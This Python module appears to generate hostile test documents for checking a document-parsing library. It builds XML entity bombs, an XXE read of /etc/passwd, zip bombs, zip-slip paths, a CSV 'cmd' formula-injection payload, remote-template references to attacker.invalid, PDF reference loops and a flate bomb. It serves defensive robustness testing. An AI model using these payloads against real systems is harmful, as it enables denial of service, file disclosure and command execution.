"""Documents made to hurt their reader, small ones of each class: bombs, loops, lies. Each is different by its number.

What is wanted of each: the text that must still come out, or the code and kind of the refusal. Several outcomes are right
where a library may find its own way around the damage.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from builders import docx, pdf, small, xlsx

#: A code of ours, with its kind.
Wanted = tuple[str, str | None]
OK: Final[Wanted] = ("ok", None)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A document and what may become of it; where it is read, *text* is in it, and *never* is not."""

    data: bytes
    extension: str
    wanted: frozenset[Wanted]
    text: str = ""
    never: str = "\0"


def _hostile(data: bytes, extension: str, *wanted: Wanted, text: str = "", never: str = "\0") -> Hostile:
    return Hostile(data, extension, frozenset(wanted), text, never)


# -- XML --------------------------------------------------------------------------------------------------------------


def laughs(number: int) -> Hostile:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "ha{number}">{entities}]>'
    return _hostile(docx.docx(docx.p("<w:r><w:t>&l9;</w:t></w:r>"), doctype=doctype), ".docx", ("limit", "xml-entity"))


def quadratic(number: int) -> Hostile:
    sheet = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}{number}">]><worksheet xmlns="{xlsx.MAIN}"><sheetData><row r="1">'
    sheet += f"<c r='A1' t='inlineStr'><is><t>{'&a;' * 10_000}</t></is></c></row></sheetData></worksheet>"
    return _hostile(xlsx.workbook("", more={"xl/worksheets/sheet1.xml": sheet}), ".xlsx", ("limit", "xml-entity"))


def external_entity(number: int) -> Hostile:
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    data = docx.docx(docx.p(f"visible {number} ", "<w:r><w:t>&e;</w:t></w:r>"), doctype=doctype)
    return _hostile(data, ".docx", OK, ("limit", "xml-entity"), text=f"visible {number}", never="root:")


def nested(number: int) -> Hostile:
    deep = f"<!-- {number} -->" + "<w:sdt><w:sdtContent>" * 50_000 + "</w:sdtContent></w:sdt>" * 50_000
    return _hostile(docx.docx(deep), ".docx", ("limit", "depth"))


def nested_tables(number: int) -> Hostile:
    deep = docx.p(f"inside {number}")
    for _ in range(80):
        deep = f"<w:tbl><w:tr><w:tc>{deep}{docx.p('x')}</w:tc></w:tr></w:tbl>"
    return _hostile(docx.docx(deep), ".docx", OK, ("limit", "depth"))


# -- spreadsheets -----------------------------------------------------------------------------------------------------


def sparse(number: int) -> Hostile:
    far = f"<dimension ref='A1:XFD1048576'/><sheetData><row r='1'><c r='A1'><v>{number}</v></c></row>"
    far += "<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>far away</t></is></c></row></sheetData>"
    return _hostile(xlsx.workbook(far), ".xlsx", OK, text="far away")


def repeated_string(number: int) -> Hostile:
    """One long string that every cell shows."""
    cells = "".join(f"<c r='A{row}' t='s'><v>0</v></c>" for row in range(1, 20_001))
    shared = f"<si><t>{number}{'y' * 1_000_000}</t></si>"
    return _hostile(xlsx.workbook(f"<sheetData><row>{cells}</row></sheetData>", shared=shared), ".xlsx", ("limit", "output"))


def wide_csv(number: int) -> Hostile:
    return _hostile(b"%d," % number + b"a," * 1_000_000 + b"\n", ".csv", ("limit", "cells"))


def open_quote(number: int) -> Hostile:
    return _hostile(b'a,b\n%d,"' % number + b"never closed,\n" * 20_000, ".csv", OK, ("limit", "output"))


def formulas(number: int) -> Hostile:
    data = f"a,b\n{number},=cmd|' /C calc'!A0\n2,@SUM(1+1)\n".encode()
    return _hostile(data, ".csv", OK, text="=cmd|' /C calc'!A0")


# -- archives ---------------------------------------------------------------------------------------------------------


def packed_zeros(number: int) -> Hostile:
    text = b" " * (24 * 1024 * 1024)
    data = docx.docx(docx.p(str(number)), more={"word/document.xml": text})
    return _hostile(data, ".docx", ("limit", "ratio"))


def lying_size(number: int) -> Hostile:
    """Twenty-four mebibytes that say they are ten bytes."""
    data = bytearray(docx.docx(docx.p(str(number)), more={"word/document.xml": b" " * (24 * 1024 * 1024)}))
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 24 : at + 28] = struct.pack("<L", 10)
        at += 4
    return _hostile(bytes(data), ".docx", ("limit", "ratio"))


def overlapping(number: int) -> Hostile:
    """Many names for one packed part: little on the disk, as much as one likes in memory."""
    cell = f"<row><c t='inlineStr'><is><t>{number}</t></is></c></row>"
    inner = f'<worksheet xmlns="{xlsx.MAIN}"><sheetData>{cell * 60_000}</sheetData></worksheet>'
    names = [f"xl/worksheets/sheet{i}.xml" for i in range(2, 401)]
    rels = tuple((f"rIdX{i}", "worksheet", f"worksheets/sheet{i}.xml") for i in range(2, 401))
    sheets = "".join(f'<sheet name="s{i}" sheetId="{i}" r:id="rIdX{i}"/>' for i in range(2, 401))
    book = f'<workbook xmlns="{xlsx.MAIN}" xmlns:r="{xlsx.R}"><sheets>{sheets}</sheets></workbook>'
    data = xlsx.workbook("", extra_rels=rels, more={"xl/workbook.xml": book, "xl/worksheets/sheet1.xml": inner})
    return _hostile(_shared(data, "xl/worksheets/sheet1.xml", names), ".xlsx", ("limit", "output"), ("limit", "bytes"))


def _shared(data: bytes, name: str, names: list[str]) -> bytes:
    """The archive *data* with *names* beside *name*, all of them for the same bytes."""
    end = data.rfind(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HLL", data, end + 10)
    directory, at = data[offset : offset + size], 0
    while True:
        length, extra, comment = struct.unpack_from("<3H", directory, at + 28)
        if directory[at + 46 : at + 46 + length] == name.encode():
            break
        at += 46 + length + extra + comment
    more = b"".join(
        directory[at : at + 28] + struct.pack("<3H", len(n), 0, 0) + directory[at + 34 : at + 46] + n.encode() for n in names
    )
    whole = directory + more
    total = count + len(names)
    return data[:offset] + whole + b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, total, total, len(whole), offset, 0)


def slipping_names(number: int) -> Hostile:
    more: dict[str, str | bytes] = {"../../etc/passwd": "x", "/abs": "x", "C:\\x": "x", "a\nb": "x", "WORD/DOCUMENT.XML": "x"}
    return _hostile(docx.docx(docx.p(f"named {number}"), more=more), ".docx", OK, text=f"named {number}")


def many_entries(number: int) -> Hostile:
    more: dict[str, str | bytes] = {f"x{i}": b"" for i in range(20_100)}
    return _hostile(docx.docx(docx.p(str(number)), more=more), ".docx", ("limit", "entries"))


def embedded_in_itself(number: int) -> Hostile:
    data = docx.docx(docx.p(f"level 0 of {number}"))
    for level in range(1, 30):
        data = docx.docx(docx.p(f"level {level} of {number}"), more={"word/embeddings/a.docx": data})
    return _hostile(data, ".docx", OK, text=f"level 29 of {number}")


def cut(number: int) -> Hostile:
    data = docx.docx("".join(docx.p(f"{number} {i}") for i in range(200)))
    return _hostile(data[: len(data) // 2], ".docx", ("corrupt", None))


def disguised(number: int) -> Hostile:
    return _hostile(docx.docx(docx.p(f"a letter {number}")), ".pdf", OK, text=f"a letter {number}")


def locked(number: int) -> Hostile:
    return _hostile(small.encrypted_docx() + b"%d" % number, ".docx", ("encrypted", None))


def outward(number: int) -> Hostile:
    """References to elsewhere: a template, a picture, an object. Nothing of them is opened."""
    rels = [
        ("rId7", "attachedTemplate", "http://attacker.invalid/t.dotm", "External"),
        ("rId8", "image", "file:///etc/passwd", "External"),
        ("rId9", "oleObject", "\\\\attacker.invalid\\share\\x", "External"),
    ]
    return _hostile(docx.docx(docx.p(f"refers {number}"), rels=rels), ".docx", OK, text=f"refers {number}", never="root:")


# -- PDF --------------------------------------------------------------------------------------------------------------


def xref_loop(number: int) -> Hostile:
    data = pdf.document([pdf.show(f"round {number}")])
    start = data.rfind(b"xref\n0 ")
    looped = data.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % start)
    return _hostile(looped, ".pdf", OK, ("corrupt", None), text=f"round {number}")


def outline_loop(number: int) -> Hostile:
    items: dict[int, str | bytes] = {
        100: "<< /First 101 0 R /Last 101 0 R /Count 2 >>",
        101: "<< /Title (one) /Parent 100 0 R /Next 102 0 R /Dest [10 0 R /Fit] >>",
        102: "<< /Title (two) /Parent 100 0 R /Next 101 0 R /First 100 0 R /Dest [10 0 R /Fit] >>",
    }
    data = pdf.document([pdf.show(f"listed {number}")], catalog="/Outlines 100 0 R", extra=items)
    return _hostile(data, ".pdf", OK, text=f"listed {number}")


def page_loop(number: int) -> Hostile:
    tree: dict[int, str | bytes] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
        3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        4: pdf.stream(f"% {number}"),
    }
    return _hostile(pdf.pdf(tree), ".pdf", OK, ("corrupt", None), ("needs-ocr", None))


def form_loop(number: int) -> Hostile:
    """A form that draws itself."""
    form = pdf.stream("/Fx Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Fx 100 0 R >> >>")
    objects: dict[int, str | bytes] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>",
        3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        10: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 11 0 R "
        "/Resources << /Font << /F1 3 0 R >> /XObject << /Fx 100 0 R >> >> >>",
        11: pdf.stream(pdf.show(f"drawn {number}") + "/Fx Do"),
        100: form,
    }
    return _hostile(pdf.pdf(objects), ".pdf", OK, text=f"drawn {number}")


def flate_bomb(number: int) -> Hostile:
    """A content stream packed twice: 64 MiB in some hundred bytes."""
    packed = zlib.compress(zlib.compress(b"q Q " * (16 * 1024 * 1024), 9), 9)
    objects: dict[int, str | bytes] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>",
        10: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 11 0 R /Number {number} >>",
        11: pdf.stream(packed, "/Filter [/FlateDecode /FlateDecode]"),
    }
    # Nothing is shown on it: read to its end it is a page without text.
    return _hostile(
        pdf.pdf(objects), ".pdf", OK, ("needs-ocr", None), ("out-of-memory", None), ("timeout", None), ("limit", "cpu")
    )


def giant_image(number: int) -> Hostile:
    image = "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"
    data = pdf.document([pdf.show(f"beside {number}") + "/Im1 Do"], extra={4: pdf.stream(zlib.compress(bytes(1000)), image)})
    return _hostile(data, ".pdf", OK, text=f"beside {number}")


def giant_page(number: int) -> Hostile:
    data = pdf.document([pdf.show(f"wide {number}")]).replace(b"[0 0 612 792]", b"[0 0 9e9 1e39]")
    return _hostile(data, ".pdf", OK, ("corrupt", None), text=f"wide {number}")


def cut_pdf(number: int) -> Hostile:
    data = pdf.document([pdf.show(f"page {i} of {number}") for i in range(20)])
    return _hostile(data[: len(data) // 2], ".pdf", OK, ("corrupt", None), text=f"page 0 of {number}")


# -- text -------------------------------------------------------------------------------------------------------------


def one_line(number: int) -> Hostile:
    return _hostile(b"%d" % number + b"a" * (1024 * 1024), ".txt", OK, text=f"{number}aaaa")


def odd_bytes(number: int) -> Hostile:
    return _hostile(f"line {number}\n\x1b]0;x\x07\u202eolleh\n".encode() * 50, ".txt", OK, text=f"line {number}")


KINDS: Final[dict[str, Callable[[int], Hostile]]] = {
    maker.__name__.replace("_", "-"): maker
    for maker in (
        laughs, quadratic, external_entity, nested, nested_tables, sparse, repeated_string, wide_csv, open_quote, formulas,
        packed_zeros, lying_size, overlapping, slipping_names, many_entries, embedded_in_itself, cut, disguised, locked, outward,
        xref_loop, outline_loop, page_loop, form_loop, flate_bomb, giant_image, giant_page, cut_pdf, one_line, odd_bytes,
    )
}  # fmt: skip
